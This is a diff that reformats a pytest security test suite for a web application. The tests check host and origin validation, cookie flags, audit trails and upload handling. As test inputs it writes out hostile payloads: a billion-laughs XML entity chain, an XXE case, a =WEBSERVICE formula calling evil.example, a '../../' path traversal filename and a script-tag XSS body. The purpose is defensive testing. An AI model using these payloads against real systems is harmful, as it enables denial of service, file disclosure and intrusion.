@@ -1,4 +1,5 @@
-"""What an attacker tries first: headers on every answer, hosts, sessions, uploads, and the trail of accounts."""
+"""What an attacker tries first: headers on every answer, hosts, sessions, uploads, and the trail of
+accounts."""
 
 from __future__ import annotations
 
@@ -42,7 +43,13 @@ def test_a_fault_of_ours_is_one_sentence_with_all_headers(
 
 def test_headers_are_on_streams_assets_refusals_and_redirects_too(alone: Client) -> None:
     job = alone.send("POST", "/jobs", {"kind": "draws", "draws": 10}).json()["id"]
-    paths = [f"{API}/jobs/{job}/events", f"{API}/tables/nodes.csv", f"{API}/openapi.json", f"{API}/session", "/nowhere"]
+    paths = [
+        f"{API}/jobs/{job}/events",
+        f"{API}/tables/nodes.csv",
+        f"{API}/openapi.json",
+        f"{API}/session",
+        "/nowhere",
+    ]
     page = alone.http.get("/")
     assert page.status_code == 200, "build the page: make page"
     paths += [part.split('"')[0] for part in page.text.split('src="')[1:]]
@@ -61,17 +68,28 @@ def test_headers_are_on_streams_assets_refusals_and_redirects_too(alone: Client)
 @pytest.mark.parametrize(
     ("host", "status"),
     [
-        ("localhost", 200), ("LOCALHOST:80", 200), ("127.0.0.1:1", 200), ("[::1]:8", 200),
-        ("127.0.0.1.evil.example", 421), ("localhost@evil.example", 421), ("[::1", 421), ("", 421), ("localhost.", 421),
+        ("localhost", 200),
+        ("LOCALHOST:80", 200),
+        ("127.0.0.1:1", 200),
+        ("[::1]:8", 200),
+        ("127.0.0.1.evil.example", 421),
+        ("localhost@evil.example", 421),
+        ("[::1", 421),
+        ("", 421),
+        ("localhost.", 421),
     ],
-)  # fmt: skip
+)
 def test_only_its_own_names_are_answered(alone: Client, host: str, status: int) -> None:
     assert alone.http.get(f"{API}/programme", headers={"host": host}).status_code == status
 
 
-@pytest.mark.parametrize("origin", ["http://[", "https://localhost.evil.example", "null", "file://", "http://localhost:1"])
+@pytest.mark.parametrize(
+    "origin", ["http://[", "https://localhost.evil.example", "null", "file://", "http://localhost:1"]
+)
 def test_writing_from_another_origin_is_refused(alone: Client, origin: str) -> None:
-    answer = alone.http.post(f"{API}/trial", json={"dates": {}}, headers={CSRF_HEADER: alone.csrf, "origin": origin})
+    answer = alone.http.post(
+        f"{API}/trial", json={"dates": {}}, headers={CSRF_HEADER: alone.csrf, "origin": origin}
+    )
     assert answer.status_code == 403
 
 
@@ -79,13 +97,20 @@ def test_a_lie_about_the_length_and_a_deep_body_are_refused(alone: Client) -> No
     where = alone.http.base_url
     for length in ("-1", "1e9", "99999999999", "7; 8"):
         with socket.create_connection((where.host, where.port or 80), timeout=10) as link:
-            head = (f"POST {API}/trial HTTP/1.1", "Host: localhost", "Content-Type: application/json", f"Content-Length: {length}")
+            head = (
+                f"POST {API}/trial HTTP/1.1",
+                "Host: localhost",
+                "Content-Type: application/json",
+                f"Content-Length: {length}",
+            )
             link.sendall("\r\n".join((*head, "", "{}")).encode())
             link.shutdown(socket.SHUT_WR)
             status = link.recv(100).split()[1:2]
             assert status in ([b"400"], [b"413"]), (length, status)
     deep = b'{"dates": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"
-    answer = alone.http.post(f"{API}/trial", content=deep, headers={CSRF_HEADER: alone.csrf, "content-type": "application/json"})
+    answer = alone.http.post(
+        f"{API}/trial", content=deep, headers={CSRF_HEADER: alone.csrf, "content-type": "application/json"}
+    )
     assert answer.status_code in (400, 422)
 
 
@@ -125,7 +150,9 @@ def test_cookies_are_out_of_reach(ridge: Path, people: People) -> None:
             answer = client.post(f"{API}/session", json={"name": "olga", "password": PASSWORD})
         cookie = answer.headers["set-cookie"].lower()
         assert cookie.startswith(f"__host-{COOKIE}=")
-        assert {"httponly", "secure", "samesite=strict", "path=/"} <= {part.strip() for part in cookie.split(";")}
+        assert {"httponly", "secure", "samesite=strict", "path=/"} <= {
+            part.strip() for part in cookie.split(";")
+        }
         assert "domain" not in cookie
         assert answer.headers["strict-transport-security"]
 
@@ -157,7 +184,9 @@ def test_the_trail_names_who_did_what_with_accounts(team: Team, people: People) 
     assert sara.sign_in("sara", "not the password").status_code == 400
     assert sara.sign_in("hunter2 typed here", "x" * 12).status_code == 400
     olga.send("POST", "/feeds")
-    answer = sara.http.post(f"{API}/documents", files={"file": ("a.pdf", b"%PDF-1.7")}, headers={CSRF_HEADER: sara.csrf})
+    answer = sara.http.post(
+        f"{API}/documents", files={"file": ("a.pdf", b"%PDF-1.7")}, headers={CSRF_HEADER: sara.csrf}
+    )
     assert answer.status_code == 201, answer.text
     olga.send("DELETE", "/session")
     people.set_role("olga", "council", by="command line, root")
@@ -165,10 +194,17 @@ def test_the_trail_names_who_did_what_with_accounts(team: Team, people: People) 
     people.remove("olga", by="command line, root")
     trail = [(e.what, e.name) for e in people.trail()]
     for line in (
-        ("added", "olga"), ("signed in", "olga"), ("calendar address", "olga"), ("signed out", "olga"), ("new role", "olga"),
-        ("new password", "olga"), ("removed", "olga"), ("sign-in failed", "sara"), ("sign-in failed", ""),
+        ("added", "olga"),
+        ("signed in", "olga"),
+        ("calendar address", "olga"),
+        ("signed out", "olga"),
+        ("new role", "olga"),
+        ("new password", "olga"),
+        ("removed", "olga"),
+        ("sign-in failed", "sara"),
+        ("sign-in failed", ""),
         ("kept a document", "sara"),
-    ):  # fmt: skip
+    ):
         assert line in trail, line
     assert "hunter2" not in repr(people.trail())
     assert people.trail(1)[0].by == "command line, root"
@@ -185,21 +221,34 @@ def test_every_write_leaves_an_entry_that_names_the_person(team: Team) -> None:
         assert entry["by"] == by
         assert entry["reason"]
 
-    said = viktor.send("POST", "/evidence", {"commitment": "R2", "reported_on": "2025-12-20", "shows": "progress", "source": "s"})
+    said = viktor.send(
+        "POST",
+        "/evidence",
+        {"commitment": "R2", "reported_on": "2025-12-20", "shows": "progress", "source": "s"},
+    )
     last("verifier: viktor")
     vera.send("POST", f"/evidence/{said.json()['id']}/confirmation", {"verdict": "in part"})
     last("verifier: vera")
     mine = next(
-        c for c in anna.get("/commitments").json() if "XRL" in c["owed_by"] and not c["closed"] and c["status"]["latest_promised"]
+        c
+        for c in anna.get("/commitments").json()
+        if "XRL" in c["owed_by"] and not c["closed"] and c["status"]["latest_promised"]
     )
     year = int(mine["status"]["latest_promised"][:4]) + 1
     reason = anna.get("/programme").json()["reasons"][0]
-    asked = anna.send("POST", "/requests", {"item": mine["id"], "new_date": f"{year}-03-31", "reason": reason})
+    asked = anna.send(
+        "POST", "/requests", {"item": mine["id"], "new_date": f"{year}-03-31", "reason": reason}
+    )
     last("XRL: anna")
     carl.send("POST", f"/requests/{asked.json()['id']}/decision", {"grant": False})
     last("council: carl")
     row = next(r for r in sara.get("/rows/commitments").json() if r["id"] == "R2")
-    edit = {"table": "commitments", "id": "R2", "cells": {**row["cells"], "title": "Other"}, "seen": row["digest"]}
+    edit = {
+        "table": "commitments",
+        "id": "R2",
+        "cells": {**row["cells"], "title": "Other"},
+        "seen": row["digest"],
+    }
     assert sara.send("POST", "/edits", {"edits": [edit], "reason": "better"}).status_code == 200
     last("secretariat: sara")
 
@@ -240,10 +289,12 @@ LAUGHS = "".join(f'<!ENTITY l{k} "{f"&l{k - 1};" * 10}">' for k in range(1, 10))
         "this is no XML",
     ],
     ids=["one cell far out", "a billion laughs", "a file of the server", "no XML"],
-)  # fmt: skip
+)
 def test_a_workbook_that_is_a_trap_is_refused(alone: Client, sheet: str) -> None:
     content = workbook(sheet)
-    answer = alone.http.post(f"{API}/workbook", files={"file": ("w.xlsx", content)}, headers={CSRF_HEADER: alone.csrf}, timeout=30)
+    answer = alone.http.post(
+        f"{API}/workbook", files={"file": ("w.xlsx", content)}, headers={CSRF_HEADER: alone.csrf}, timeout=30
+    )
     assert answer.status_code in (400, 422), answer.text[:300]
     name = Path("/etc/hostname")
     if name.is_file():
@@ -259,14 +310,18 @@ def test_formulas_of_a_workbook_are_text_and_not_run(alone: Client) -> None:
     sheet.cell(2, head.index("title") + 1).value = '=WEBSERVICE("https://evil.example")'
     out = io.BytesIO()
     book.save(out)
-    answer = alone.http.post(f"{API}/workbook", files={"file": ("w.xlsx", out.getvalue())}, headers={CSRF_HEADER: alone.csrf})
+    answer = alone.http.post(
+        f"{API}/workbook", files={"file": ("w.xlsx", out.getvalue())}, headers={CSRF_HEADER: alone.csrf}
+    )
     assert answer.status_code in (200, 400, 422), answer.text
     assert "http" not in str(answer.json().get("differences", "")) or "=WEBSERVICE" in answer.text
 
 
 def test_documents_go_out_as_files_only(alone: Client) -> None:
     body = b"%PDF-1.7 <script>alert(1)</script>"
-    kept = alone.http.post(f"{API}/documents", files={"file": ("../../a.pdf", body)}, headers={CSRF_HEADER: alone.csrf}).json()
+    kept = alone.http.post(
+        f"{API}/documents", files={"file": ("../../a.pdf", body)}, headers={CSRF_HEADER: alone.csrf}
+    ).json()
     answer = alone.get(f"/documents/{kept['name']}")
     assert answer.headers["content-type"] == "application/octet-stream"
     assert answer.headers["content-disposition"].startswith("attachment")
